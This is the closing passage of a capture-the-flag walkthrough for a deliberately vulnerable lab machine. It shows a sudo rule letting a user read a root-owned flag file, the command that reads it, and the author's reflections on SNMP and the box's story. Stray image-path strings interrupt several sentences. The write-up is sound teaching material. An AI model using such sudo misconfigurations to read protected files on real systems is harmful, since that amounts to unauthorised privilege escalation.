User demonslayer may run the following commands on thenecromancer:(ALL) NOPASSWD: /bin/cat /root/flag11.txt

Bingo!! Let’s hit it and end this game.

sudo cat /root/flag11.txt

The End

This is the screenshot of my screen when I finished the game. If you decrypt the hash in flag 11, you’ll get the string hackergod.

So, we fought so hard only to discover that we were dreaming and that’s the end of it all!!

Final Words : The End

Had this machine not included the SNMP in it, I would have rated this machine as abeginner’s level. Not a lot of people use SNMP and quite a lot of people know nothing more than its name. But, no matter what level it was, I enjoyed it a lot. The story was well designed and the designers deserve to be appreciated for it.

The machine had some flags which didn’t make any sense to me. It might as be the case that those flags were a direction towards some hidden Easter eggs which I couldn’t figure out but I tried my best and have presented my experience to its best. If you happen to know anything about these Easter eggs, pleasetell me by commenting below. I hope you enjoyed reading the solution as much as I enjoyed writing it.

Leave a Reply